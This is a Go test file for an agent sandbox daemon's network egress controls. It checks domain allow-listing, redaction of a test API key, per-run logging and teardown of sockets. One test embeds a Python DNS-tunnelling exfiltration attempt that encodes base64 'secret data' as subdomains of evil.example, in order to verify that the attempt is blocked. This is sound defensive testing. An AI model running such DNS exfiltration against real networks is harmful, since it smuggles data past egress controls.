package daemon

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/holdfast-dev/holdfast"
	"github.com/holdfast-dev/holdfast/internal/frontend/api"
	"github.com/holdfast-dev/holdfast/internal/policy/posture"
	"github.com/holdfast-dev/holdfast/internal/sandbox"
	"github.com/holdfast-dev/holdfast/internal/sandbox/process"
	"golang.org/x/sys/unix"
)

// upstream is a server of the world, under its name, with a certificate of its
// own authority.
type upstream struct {
	port  string
	roots string // file

	mu   sync.Mutex
	seen []string
}

const upstreamKey = "sk-proj-Zk3uT9vWq2LmN8xYb5Rc7PdEf1GhJ4KsA6oIiUyTrEwQ0zXcVbNm"

func upstreamOf(t *testing.T, name string) *upstream {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	of := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: name}, DNSNames: []string{name}, IsCA: true, BasicConstraintsValid: true,
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign}
	der, err := x509.CreateCertificate(rand.Reader, of, of, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	u := &upstream{roots: filepath.Join(t.TempDir(), "roots.pem")}
	if err := os.WriteFile(u.roots, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600); err != nil {
		t.Fatal(err)
	}
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		u.mu.Lock()
		u.seen = append(u.seen, fmt.Sprintf("%s %s %s %s", r.Method, r.Host, r.URL.Path, b))
		u.mu.Unlock()
		fmt.Fprintf(w, "hello %s, the key is %s", r.URL.Path, upstreamKey)
	}))
	s.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	s.StartTLS()
	t.Cleanup(s.Close)
	u.port = s.URL[strings.LastIndex(s.URL, ":")+1:]
	return u
}

// inWorkspace runs a Python program as agent in a workspace with the daemon's
// network, and returns the lines that it printed.
func inWorkspace(t *testing.T, c *api.Client, agent, text string, variables bool, args ...string) []string {
	t.Helper()
	tree := t.TempDir()
	if err := os.Chmod(tree, 0o777); err != nil {
		t.Fatal(err)
	}
	tree, err := process.WorkTree(tree, "", true)
	if err != nil {
		t.Fatal(err)
	}
	from, to, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	said := make(chan string, 1)
	go func() { b, _ := io.ReadAll(from); from.Close(); said <- string(b) }()
	ask := api.RunAsk{Agent: agent, Network: api.NetworkProxy, Space: sandbox.Workspace{ID: "run-of-" + agent, Tree: tree, Timeout: time.Minute,
		Argv: append([]string{"/usr/bin/python3", "-c", text}, args...)}}
	got, err := c.Run(t.Context(), ask, func(ctx context.Context, terms api.RunTerms) (*posture.Result, error) {
		w := process.OpenWorkspaces()
		defer w.Close()
		space := ask.Space
		space.Network, space.Environment = terms.Network, map[string]string{"PATH": "/usr/bin:/bin"}
		if variables {
			space.Environment = sandbox.NetworkVariables()
		}
		space, err := sandbox.CheckWorkspace(space, func(string) bool { return false })
		if err != nil {
			return nil, err
		}
		space.Need = []posture.Wall{posture.WallNet}
		return w.RunConnected(ctx, space, sandbox.Streams{Out: to, Err: to}, func(ctx context.Context, sockets []*os.File) error { return c.HandOver(ctx, terms, sockets) })
	})
	to.Close()
	lines := strings.Split(strings.TrimSpace(<-said), "\n")
	if err != nil || got.Failure != nil || got.Result == nil || got.Result.ExitCode != 0 {
		t.Fatalf("%v %+v %+v\n%s", err, got.Failure, got.Result, strings.Join(lines, "\n"))
	}
	return lines
}

const fetching = `
import socket, sys, urllib.request, urllib.error
def get(url, body=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data=body), timeout=20) as r: return "%d %s" % (r.status, r.read().decode())
    except urllib.error.HTTPError as e: return "%d %s" % (e.code, e.read().decode().replace("\n", " "))
    except OSError as e: return "no: %s" % e
`

// TestNetwork_Accept1: a program of a workspace reaches the domains of the
// configuration and no other, by way of the proxy and past it; what it sends and
// what comes back is redacted, and each request is a crossing of the run's agent,
// in the run's flow.
func TestNetwork_Accept1(t *testing.T) {
	for _, variables := range []bool{true, false} {
		t.Run(map[bool]string{true: "by the variables", false: "knowing of no proxy"}[variables], func(t *testing.T) { reachesTheListed(t, variables) })
	}
}

func reachesTheListed(t *testing.T, variables bool) {
	u := upstreamOf(t, "api.allowed.example")
	d, c, down := up(t, fmt.Sprintf("%segress:\n  domains:\n    \"api.allowed.example:%s\": {addresses: [127.0.0.1], roots: %s, redact: {request: mask}}\n", quiet, u.port, u.roots))
	defer down()
	lines := inWorkspace(t, c, "alice", fetching+`
port = sys.argv[1]
print(get("https://api.allowed.example:%s/one" % port, b"my key is %s" % sys.argv[2].encode()))
print(get("https://api.other.example:%s/two" % port))
print(get("https://api.other.example/three"))
print(get("http://api.allowed.example/four"))
print(socket.gethostbyname("api.allowed.example"), socket.gethostbyname("whatever.example"))
s = socket.create_connection(("203.0.113.9", 25), 20); s.sendall(b"EHLO x\r\n\r\n"); print(s.recv(100)[:15])
`, variables, u.port, upstreamKey)
	// Inside of the tunnel too, where programs that know of the proxy read it.
	want := []string{"200 hello /one, the key is [", "403 ", "403 ", "403 ", "198.18.0.1 198.18.0.1", "b'"}

	if len(lines) != len(want) {
		t.Fatalf("%q", lines)
	}
	for i, w := range want {
		if !strings.HasPrefix(lines[i], w) || strings.Contains(lines[i], upstreamKey) || w == "403 " && !strings.Contains(lines[i], "api.") {
			t.Errorf("%q, want %q", lines[i], w)
		}
	}
	if len(u.seen) != 1 || !strings.HasPrefix(u.seen[0], "POST api.allowed.example:"+u.port+" /one my key is [") || strings.Contains(u.seen[0], upstreamKey) {
		t.Errorf("upstream saw %q", u.seen)
	}
	recordedAsTheRuns(t, d, "egress/api.allowed.example:"+u.port)
}

// recordedAsTheRuns: every request of a run is of its agent and in its flow.
func recordedAsTheRuns(t *testing.T, d *Daemon, allowed string) {
	t.Helper()
	var boundaries []string
	for range 100 { // an entry may follow its answer
		runs, err := d.entriesOf("run/")
		if err != nil || len(runs) != 1 {
			t.Fatal(err, len(runs))
		}
		list, err := d.entriesOf("egress/")
		if err != nil {
			t.Fatal(err)
		}
		boundaries = nil
		for _, e := range list {
			boundaries = append(boundaries, e.Boundary)
			if e.Agent != "alice" || e.Correlation != runs[0].Correlation {
				t.Errorf("%s is of %q in %s, the run in %s", e.Boundary, e.Agent, e.Correlation, runs[0].Correlation)
			}
		}
		if slices.Contains(boundaries, allowed) && len(boundaries) >= 4 {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Errorf("the ledger has %q", boundaries)
}

// TestNetwork_NamesCarryNothing: every question has the same answer or none, and
// none of it leaves; what names cannot say is asked in vain.
func TestNetwork_NamesCarryNothing(t *testing.T) {
	_, c, down := up(t, quiet)
	defer down()
	lines := inWorkspace(t, c, "alice", `
import socket, struct
def ask(name, kind, at="127.0.0.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((at, 53))
    q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\0" + struct.pack(">HH", kind, 1)
    try:
        s.send(q); a = s.recv(4096)
    except OSError: return "nothing"
    return "%d answers, code %d, %s" % (struct.unpack(">H", a[6:8])[0], a[3] & 15, socket.inet_ntoa(a[-4:]) if a[7] else "-")
data = b"c2VjcmV0IGRhdGEgb2YgdGhlIHRyZWU" * 2
for kind in 1, 28, 16, 65, 33, 15, 255: print(kind, ask(data[:60] + b".evil.example", kind))
print(ask(data[:60] + b".evil.example", 1, "8.8.8.8"))
print(ask(b".".join([data[:60]] * 4), 1))
`, false)
	want := []string{"1 1 answers, code 0, 198.18.0.1", "28 0 answers, code 0, -", "16 0 answers, code 0, -", "65 0 answers, code 0, -", "33 0 answers, code 0, -", "15 0 answers, code 0, -"}
	for i, w := range want {
		if lines[i] != w {
			t.Errorf("%q, want %q", lines[i], w)
		}
	}
	if lines[7] != "1 answers, code 0, 198.18.0.1" {
		t.Errorf("of another server: %q", lines[7])
	}
}

// TestNetwork_DiesWithTheRun: when a run has ended, or was cut, nothing of it is
// served any more.
func TestNetwork_DiesWithTheRun(t *testing.T) {
	d, c, down := up(t, quiet)
	defer down()
	var kept []*os.File
	began := make(chan struct{})
	go func() {
		<-began
		if _, err := d.Kernel.Halt("a test", "to see what ends"); err != nil {
			t.Error(err)
		}
	}()
	tree := t.TempDir()
	if err := os.Chmod(tree, 0o777); err != nil {
		t.Fatal(err)
	}
	ask := api.RunAsk{Agent: "alice", Network: api.NetworkProxy, Space: sandbox.Workspace{ID: "cut", Tree: tree, Argv: []string{"/bin/sleep", "60"}}}
	got, err := c.Run(t.Context(), ask, func(ctx context.Context, terms api.RunTerms) (*posture.Result, error) {
		w := process.OpenWorkspaces()
		defer w.Close()
		space := ask.Space
		space.Network = terms.Network
		space, err := sandbox.CheckWorkspace(space, func(string) bool { return false })
		if err != nil {
			return nil, err
		}
		space.Need = []posture.Wall{posture.WallNet}
		return w.RunConnected(ctx, space, sandbox.Streams{}, func(ctx context.Context, sockets []*os.File) error {
			for _, f := range sockets[2:] {
				l, err := net.FileListener(f)
				if err != nil {
					return err
				}
				own, err := l.(*net.TCPListener).File()
				if err != nil {
					return err
				}
				kept = append(kept, own)
				l.Close()
			}
			defer close(began)
			return c.HandOver(ctx, terms, sockets)
		})
	})
	if err != nil || got.Failure == nil || got.Failure.Kind != holdfast.KindHalted {
		t.Errorf("%v %+v", err, got.Failure)
	}
	if len(kept) == 0 {
		t.Error("no socket was kept")
	}
	for _, f := range kept {
		if on, err := unix.GetsockoptInt(int(f.Fd()), unix.SOL_SOCKET, unix.SO_ACCEPTCONN); err != nil || on != 0 {
			t.Errorf("a copy of the run's socket still listens: %d %v", on, err)
		}
		f.Close()
	}
}
